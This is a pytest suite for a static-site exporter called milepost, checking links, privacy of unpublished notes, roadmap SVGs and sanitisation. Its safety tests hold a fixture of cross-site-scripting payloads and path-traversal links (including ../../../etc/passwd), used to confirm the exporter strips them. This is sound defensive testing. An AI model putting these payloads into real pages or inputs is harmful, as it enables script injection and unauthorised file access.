"""`milepost export`: a static site that is complete, correct, private where asked, and safe."""

from __future__ import annotations

import html.parser
import json
import posixpath
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from milepost.site.shape import relative

from .conftest import FIXTURE_VAULTS, GOLDENS, SAMPLE_VAULT, TODAY, MakeVault, Result

Run = Callable[..., Result]
TODAY_ARGS = ("--today", TODAY.isoformat())


def export(run: Run, vault: Path, out: Path, *args: str, quiet: bool = True) -> Result:
    return run("export", vault, "-o", out, *TODAY_ARGS, "--jobs", "1", *("-q",) * quiet, *args)


class _Links(html.parser.HTMLParser):
    """Every href and src of a page, its ids, and anything that could run."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.ids: set[str] = set()
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "script":
            self.scripts.append(values.get("src") or "<inline>")
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}")
            if name in ("href", "src") and value is not None:
                self.urls.append(value)
            if name == "id" and value:
                self.ids.add(value)


def parse(page: Path) -> _Links:
    parser = _Links()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser


def broken_links(site: Path) -> list[str]:
    """Every internal href and src that does not lead to a written file (and anchor)."""
    problems = []
    pages = {p: parse(p) for p in site.rglob("*.html")}
    for page, found in pages.items():
        for url in found.urls:
            parts = urlsplit(url)
            if parts.scheme or url.startswith("//"):
                continue
            target = (page.parent / unquote(parts.path)).resolve() if parts.path else page
            where = f"{page.relative_to(site)}: {url}"
            if not target.is_file() or not target.is_relative_to(site.resolve()):
                problems.append(where)
            elif parts.fragment and target.suffix == ".html":
                ids = pages[target].ids if target in pages else parse(target).ids
                if unquote(parts.fragment) not in ids:
                    problems.append(where + " (no such anchor)")
    return problems


# ----- the site ----------------------------------------------------------------------------------
def test_every_internal_link_of_the_sample_site_resolves(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    result = export(run, SAMPLE_VAULT, site)
    assert result.code == 0, result.err
    assert broken_links(site) == []
    assert (site / "index.html").is_file() and (site / "assets/search-index.js").is_file()
    assert len(list(site.rglob("*.html"))) > 30
    # every note is a page, except milepost's own generated Markdown pages
    notes = [p for p in SAMPLE_VAULT.rglob("*.md") if "Roadmaps" not in p.parts]
    assert len(list((site / "notes").rglob("*.html"))) == len(notes)
    assert not (site / "notes" / "roadmaps").exists()


def test_golden_site(run: Run, tmp_path: Path, update_goldens: bool) -> None:
    site = tmp_path / "site"
    assert export(run, FIXTURE_VAULTS / "export", site).code == 0
    produced = {
        p.relative_to(site).as_posix(): p.read_text(encoding="utf-8")
        for p in sorted(site.rglob("*"))
        if p.is_file() and p.suffix in (".html", ".js") and p.name != "search.js"
    }
    golden = GOLDENS / "export.site"
    if update_goldens:
        for old in golden.rglob("*") if golden.exists() else []:
            if old.is_file():
                old.unlink()
        for rel, text in produced.items():
            (golden / rel).parent.mkdir(parents=True, exist_ok=True)
            (golden / rel).write_text(text, encoding="utf-8")
    expected = {
        p.relative_to(golden).as_posix(): p.read_text(encoding="utf-8")
        for p in sorted(golden.rglob("*"))
        if p.is_file()
    }
    assert produced == expected
    assert broken_links(site) == []


def test_obsidian_syntax_in_the_html(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    assert export(run, FIXTURE_VAULTS / "export", site).code == 0
    page = (site / "notes/notes/welcome.html").read_text(encoding="utf-8")
    assert "<mark>highlighted</mark>" in page
    assert 'href="plan.html#mp-h-goals"' in page  # heading links go to the heading's anchor
    assert 'href="plan.html#mp-b-key-point"' in page  # block links to the block
    assert '<details class="callout" data-callout="warning" data-callout-fold="-">' in page
    assert '<div class="callout" data-callout="tip">' in page
    assert "a comment that must not appear" not in page
    assert '<img src="../../files/attachments/diagram.png" alt="diagram.png" width="200"' in page
    assert 'class="mp-embed"' in page and "Ship the thing" in page  # heading embed
    assert '<span class="mp-broken">Missing note</span>' in page
    assert '<span class="math">e = mc^2</span>' in page
    assert "Mermaid diagram, shown as its source" in page and "graph TD; A--&gt;B" in page
    assert 'href="../../tags/project/alpha/kickoff.html"' in page
    assert '<input type="checkbox" disabled checked>' in page
    plan = (site / "notes/notes/plan.html").read_text(encoding="utf-8")
    assert "Linked from" in plan and 'href="welcome.html"' in plan  # backlinks
    # a region's stale Mermaid chart is replaced by milepost's own SVG roadmap
    model = (site / "notes/models/alpha.html").read_text(encoding="utf-8")
    assert "<svg" in model and "stale chart" not in model
    # nested tags: the parent tag's page lists notes of its children
    parent = (site / "tags/project.html").read_text(encoding="utf-8")
    assert "welcome.html" in parent


def test_roadmap_pages_draw_an_svg_timeline(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    assert export(run, SAMPLE_VAULT, site).code == 0
    page = (site / "roadmaps/space-x.html").read_text(encoding="utf-8")
    svg = page.split("<svg", 1)[1].split("</svg>", 1)[0]
    assert 'class="mp-today"' in svg and "today 2026-11-22" in svg
    assert svg.count("<polygon") == 5  # the dated milestones of Space X
    assert 'opacity="0.18"' in svg  # a quarter or a half is drawn as a band, not a day
    assert 'data-status="overdue"' in svg and 'data-status="achieved"' in svg
    assert "First successful landing of a reusable rocket" in page


def test_the_search_index_holds_titles_headings_tags_and_text(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    assert export(run, SAMPLE_VAULT, site).code == 0
    script = (site / "assets/search-index.js").read_text(encoding="utf-8")
    entries = json.loads(script.removeprefix("window.milepostSearch = ").rstrip(";\n"))
    by_title = {e["t"]: e for e in entries}
    milestones = by_title["Milestones"]
    assert milestones["u"] == "notes/concepts/milestones.html"
    assert "👉 Examples" in milestones["h"] and "milestone" in milestones["g"]
    assert "reusable rocket" in milestones["x"]
    assert "Space X · roadmap" in by_title
    assert "</" not in script  # nothing in the data can close a script element
    for page in site.rglob("*.html"):
        assert "milepostSearch = " not in page.read_text(encoding="utf-8")  # loaded on demand only


# ----- privacy ---------------------------------------------------------------------------------
def test_unpublished_notes_leave_no_trace(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    result = export(run, FIXTURE_VAULTS / "export", site, quiet=False)
    assert result.code == 0
    everything = "\n".join(
        p.read_text(encoding="utf-8") for p in site.rglob("*") if p.suffix in (".html", ".js")
    )
    assert "Acquire the competitor" not in everything  # its milestone is not on the roadmap
    assert "acquisition nobody may know" not in everything
    assert not (site / "notes/private/secret-plan.html").exists()
    assert not (site / "notes/private/maybe.html").exists()  # publish: "no" is not a boolean
    assert not list(site.rglob("secret*.png"))  # its attachment is not copied
    assert not list(site.rglob("unused*.png"))  # attachments nobody uses are not copied
    script = (site / "assets/search-index.js").read_text(encoding="utf-8")
    entries = json.loads(script.removeprefix("window.milepostSearch = ").rstrip(";\n"))
    assert "Secret plan" not in {e["t"] for e in entries} and "acquisition" not in script
    assert "export.publish-not-boolean" in result.err


def test_only_published(run: Run, make_vault: MakeVault, tmp_path: Path) -> None:
    vault = make_vault(
        {
            "Public.md": "---\npublish: true\n---\nSee [[Draft]].\n#milestone Public one\n",
            "Draft.md": "#milestone Draft one\n",
        }
    )
    site = tmp_path / "site"
    assert export(run, vault, site, "--only-published").code == 0
    assert (site / "notes/public.html").is_file() and not (site / "notes/draft.html").exists()
    page = (site / "notes/public.html").read_text(encoding="utf-8")
    assert '<span class="mp-unpublished">Draft</span>' in page
    assert "Draft one" not in (site / "roadmaps/unassigned.html").read_text(encoding="utf-8")


# ----- safety ----------------------------------------------------------------------------------
HOSTILE = """---
title: "<script>alert('front matter')</script>"
aliases: ["<img src=x onerror=alert(1)>"]
---
# <img src=x onerror=alert('heading')>

<script>alert('raw script')</script>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('href')">click</a>
<div onclick="alert('div')" style="position:fixed">div</div>
<iframe src="https://example.com"></iframe>
<object data="x.swf"></object>
<form action="https://evil.example"><input type="password"></form>
[md link](javascript:alert('md'))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<svg><script>alert('svg')</script></svg>
<span id="milepostSearch">clobber</span>
`<script>in code</script>` and [[<script>alert(1)</script>]]

- [ ] #milestone <img src=x onerror=alert('milestone')> [owner:: <script>x</script>]
"""


def test_hostile_notes_produce_no_executable_markup(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault(
        {"Hostile <i>name</i> & co.md": HOSTILE, "Other.md": "[[Hostile <i>name</i> & co]]\n"}
    )
    site = tmp_path / "site"
    assert export(run, vault, site).code == 0
    pages = list(site.rglob("*.html"))
    assert len(pages) >= 5
    for page in pages:
        found = parse(page)
        depth = page.relative_to(site).as_posix().count("/")
        assert found.handlers == [], page  # no on* attribute anywhere
        assert found.scripts == ["../" * depth + "assets/search.js"], page  # only milepost's script
        assert not {"iframe", "object", "embed", "form", "style", "base", "link"} & set(
            found.tags
        ) - {"link"}, page
        assert not [
            u
            for u in found.urls
            if u.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
        ]
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text and "<svg><script" not in text
        assert 'id="milepostSearch"' not in text
        assert re.findall(r"<input[^>]*>", text) == [
            m
            for m in re.findall(r"<input[^>]*>", text)
            if 'type="checkbox"' in m or "mp-search-input" in m
        ]
    search = (site / "assets/search-index.js").read_text(encoding="utf-8")
    assert "</script" not in search.lower()


def test_no_path_outside_the_output_folder(run: Run, make_vault: MakeVault, tmp_path: Path) -> None:
    vault = make_vault(
        {
            "Traversal.md": "[[../../../etc/passwd]] ![[../../outside.png]]\n"
            "[up](../../../../outside.md) ![x](../../../../../tmp/evil.png) [[..]] [[.]] [[/]]\n",
            "...md": "three dots\n",
            "con.md": "a Windows name\n",
        }
    )
    (tmp_path / "outside.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    site = tmp_path / "deep" / "site"
    before = {p for p in tmp_path.rglob("*") if "site" not in p.parts}
    assert export(run, vault, site).code == 0
    after = {p for p in tmp_path.rglob("*") if "site" not in p.parts}
    assert after - before <= {tmp_path / "deep"}
    for written in site.rglob("*"):
        assert written.resolve().is_relative_to(site.resolve())
    assert not list(site.rglob("outside*"))


@pytest.mark.parametrize("where", ["vault", "parent", "inside"])
def test_the_output_folder_may_not_be_or_hold_the_vault(
    where: str, run: Run, make_vault: MakeVault
) -> None:
    vault = make_vault({"a.md": "x\n"})
    out = {"vault": vault, "parent": vault.parent, "inside": vault / "site"}[where]
    result = export(run, vault, out)
    assert result.code == 2 and result.err.count("\n") == 1
    assert not (vault / "site").exists()


def test_an_ignored_folder_inside_the_vault_may_hold_the_site(
    run: Run, make_vault: MakeVault
) -> None:
    vault = make_vault({"a.md": "x\n", "milepost.toml": 'ignore = ["public"]\n'})
    assert export(run, vault, vault / ".site").code == 0
    assert export(run, vault, vault / "public").code == 0
    assert (vault / "public/index.html").is_file()


def test_a_folder_milepost_did_not_create_is_refused(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault({"a.md": "x\n"})
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.docx").write_text("do not delete")
    result = export(run, vault, out)
    assert result.code == 2 and "milepost did not create it" in result.err
    assert (out / "thesis.docx").read_text() == "do not delete"


def test_re_export_deletes_only_what_milepost_wrote(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault({"a.md": "x\n", "b.md": "y\n"})
    site = tmp_path / "site"
    assert export(run, vault, site).code == 0
    (site / "CNAME").write_text("notes.example.com\n")  # a file the user added
    (vault / "b.md").unlink()
    again = export(run, vault, site)
    assert again.code == 0
    assert not (site / "notes/b.html").exists()
    assert (site / "CNAME").read_text() == "notes.example.com\n"
    assert "1 removed" in again.err


# ----- reports -----------------------------------------------------------------------------------
def test_link_reports_and_strict(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    result = export(run, FIXTURE_VAULTS / "export", site, quiet=False)
    assert result.code == 0
    for expected in (
        "Notes/Welcome.md:9: warning: [[Missing note]] points to no file in the vault",
        "Notes/Welcome.md:9: warning: [[Secret plan]] points to a note that is not published",
        "Notes/Ambiguous.md:1: warning: [[Duplicate]] could mean 2 notes",
        "Notes/Loop A.md:1: warning: ![[Loop B]] embeds Notes/Loop B.md, which embeds this note",
    ):
        assert expected in result.err
    strict = export(run, FIXTURE_VAULTS / "export", tmp_path / "strict", "--strict")
    assert strict.code == 1
    # -q counts the warnings in the summary line instead of listing them.
    assert [line for line in strict.err.splitlines() if line.strip()] == [
        strict.err.strip().splitlines()[-1]
    ]
    assert re.search(r" \d+ link problems in \d+\.\d\d s$", strict.err.strip())


def test_export_reports_the_same_link_findings_as_check(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault(
        {
            "Notes/Plan.md": "# Plan\n",
            "Notes/Welcome.md": "[[plan]] and [[PLAN#Plan]] and [[Nowhere]] and [[Plan#Gone]]\n",
        }
    )

    def findings(err: str) -> set[str]:
        return {line for line in err.splitlines() if "[link." in line}

    checked = run("check", vault, *TODAY_ARGS)
    site = tmp_path / "site"
    exported = export(run, vault, site, quiet=False)
    assert exported.code == 0, exported.err
    assert findings(checked.out + checked.err) == findings(exported.err)
    assert len(findings(exported.err)) == 2  # the missing note and the missing heading
    assert "case" not in exported.err
    # what the finding used to claim is not so: the case-only links work in the site
    welcome = parse(site / "notes/notes/welcome.html")
    assert "plan.html" in welcome.urls and "plan.html#mp-h-plan" in welcome.urls
    assert broken_links(site) == []


def test_dry_run_lists_every_file_and_why(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    result = export(run, FIXTURE_VAULTS / "export", site, "--dry-run")
    assert result.code == 0 and not site.exists()
    lines = dict(line.split("  <- ", 1) for line in result.out.splitlines())
    assert lines["notes/notes/welcome.html"] == "Notes/Welcome.md"
    assert (
        lines["files/attachments/diagram.png"]
        == "attachments/diagram.png (used by Notes/Welcome.md)"
    )
    assert lines["roadmaps/alpha.html"] == "business model Alpha"
    assert "assets/search-index.js" in lines


def test_links_to_generated_pages_lead_to_their_html(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault({"Plan.md": "## Examples\n### Shop\n#milestone Open\n"})
    assert run("build", vault, *TODAY_ARGS, "-q").code == 0
    (vault / "Home.md").write_text(
        "[[Roadmaps/Models/Roadmap – Shop|the roadmap]] and [[Milestone index]]\n"
    )
    site = tmp_path / "site"
    assert export(run, vault, site).code == 0
    page = (site / "notes/home.html").read_text(encoding="utf-8")
    assert 'href="../roadmaps/shop.html"' in page and 'href="../index.html"' in page
    assert not (site / "notes/roadmaps").exists()
    assert broken_links(site) == []


def test_the_same_vault_gives_the_same_site(run: Run, tmp_path: Path) -> None:
    sites = []
    for name in ("one", "two"):
        assert export(run, FIXTURE_VAULTS / "export", tmp_path / name).code == 0
        sites.append(
            {
                p.relative_to(tmp_path / name): p.read_bytes()
                for p in (tmp_path / name).rglob("*")
                if p.is_file()
            }
        )
    assert sites[0] == sites[1]


def test_relative_urls_everywhere(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    assert export(run, SAMPLE_VAULT, site).code == 0
    for page in site.rglob("*.html"):
        for url in parse(page).urls:
            parts = urlsplit(url)
            if parts.scheme in ("http", "https", "mailto"):
                continue  # links out of the vault, as written in the notes
            assert not parts.scheme and not url.startswith("/"), (page, url)
            assert not posixpath.isabs(unquote(parts.path))
    assert re.search(
        r'href="\.\./\.\./assets/style\.css"', (site / "notes/concepts/milestones.html").read_text()
    )


FOLDERS = st.lists(st.sampled_from(["notes", "tags", "a", "b", "ä x"]), max_size=3)
FILES = st.sampled_from(["index.html", "p.html", "q.html#h", "ü.html#a-b"])


@settings(max_examples=300, deadline=None)
@given(FOLDERS, FILES, FOLDERS, FILES)
def test_relative_urls_are_what_relpath_gives(
    source: list[str], page: str, target: list[str], file: str
) -> None:
    from_page, to_file = "/".join([*source, page]), "/".join([*target, file])
    start = posixpath.dirname(from_page) or "."
    expected = quote(posixpath.relpath(to_file, start), safe="/#-._~")
    assert relative(from_page, to_file) == expected


# ----- the home page -----------------------------------------------------------------------------
def _home(site: Path) -> str:
    return (site / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("files", "shown"),
    [
        ({"Home.md": "# Welcome home\n", "README.md": "# Read me\n"}, "Welcome home"),
        ({"index.md": "# The index note\n", "README.md": "# Read me\n"}, "The index note"),
        ({"README.md": "# Read me\n", "Sub/Home.md": "# Not at the root\n"}, "Read me"),
        (
            {
                "Home.md": "# Welcome home\n",
                "Start.md": "# Start here\n",
                "milepost.toml": 'home = "Start.md"\n',
            },
            "Start here",
        ),
    ],
)
def test_the_home_page_shows_the_vault_s_home_note(
    files: dict[str, str], shown: str, run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault(
        {
            **files,
            "Plan.md": "- [ ] #milestone Launch [[Plan]] 📅 2027-01-15\n  business_model:: Alpha\n",
        }
    )
    site = tmp_path / "site"
    assert export(run, vault, site).code == 0
    page = _home(site)
    note = page.split('mp-home-note"', 1)[1].split("</article>", 1)[0]
    assert f">{shown}</h1>" in note
    assert (
        sum(
            f">{text}</h1>" in page
            for text in ("Welcome home", "The index note", "Read me", "Start here")
        )
        == 1
    )
    overview = page.split('class="mp-overview"', 1)[1]
    assert "roadmaps/" in overview and "No milestones found" not in overview
    assert broken_links(site) == []


def test_a_home_note_that_is_missing_or_unpublished_is_reported(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault(
        {"milepost.toml": 'home = "Start.md"\n', "Home.md": "---\npublish: false\n---\n# Hidden\n"}
    )
    site = tmp_path / "site"
    done = export(run, vault, site, quiet=False)
    assert "[export.home-missing]" in done.err and "Start.md" in done.err
    assert "mp-home-note" not in _home(site) and "Hidden" not in _home(site)


def test_a_vault_without_milestones_says_how_to_tag_one(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    vault = make_vault({"Notes.md": "# Just notes\n", "milepost.toml": 'tags = ["goal"]\n'})
    site = tmp_path / "site"
    assert export(run, vault, site).code == 0
    page = _home(site)
    assert "No milestones found yet" in page and "<code>#goal</code>" in page
    assert "<table" not in page


# ----- the roadmap timeline ----------------------------------------------------------------------
def test_the_timeline_focuses_on_open_milestones_without_a_browser(
    run: Run, make_vault: MakeVault, tmp_path: Path
) -> None:
    long = "A milestone whose title is far too long to fit on one line of the label column"
    vault = make_vault(
        {
            "Plan.md": (
                "---\nbusiness_model: Alpha\n---\n"
                "- [x] #milestone Founded ✅ 2019-05-01\n"
                "- [ ] #milestone Launch 📅 2027-01-15\n"
                f"- [ ] #milestone {long} 📅 2027-09-30\n"
                "- [ ] #milestone Late 📅 2026-08-01\n"
            )
        }
    )
    site = tmp_path / "site"
    assert export(run, vault, site).code == 0
    svg = (site / "roadmaps/alpha.html").read_text(encoding="utf-8")
    ticks = re.findall(r'class="mp-tick">([^<]*)<', svg)
    assert ticks[0] == "earlier" and not any("2019" in t or "2020" in t for t in ticks[1:])
    marks = {
        title: float(x)
        for x, title in re.findall(
            r'<polygon class="mp-mark" points="([\d.]+),[^"]*" fill="[^"]*"><title>([^<]*)</title>',
            svg,
        )
    }
    founded = next(x for t, x in marks.items() if t.startswith("Founded — achieved — done 2019"))
    launch = next(x for t, x in marks.items() if t.startswith("Launch — planned — due 2027-01-15"))
    last = next(x for t, x in marks.items() if t.startswith(long))
    found = re.search(r'<line x1="([\d.]+)"[^>]*class="mp-axis"', svg)
    assert found is not None
    axis = float(found.group(1))
    assert founded - axis < 60  # gathered at the left edge
    assert (last - launch) / (960 - axis) > 0.3  # the open ones spread out
    lines = re.findall(r"<tspan[^>]*>([^<]*)</tspan>", svg)
    wrapped = [line for line in lines if line in long]
    assert len(wrapped) > 1 and " ".join(wrapped) == long  # wrapped, not cut
    assert not any("…" in line for line in lines)
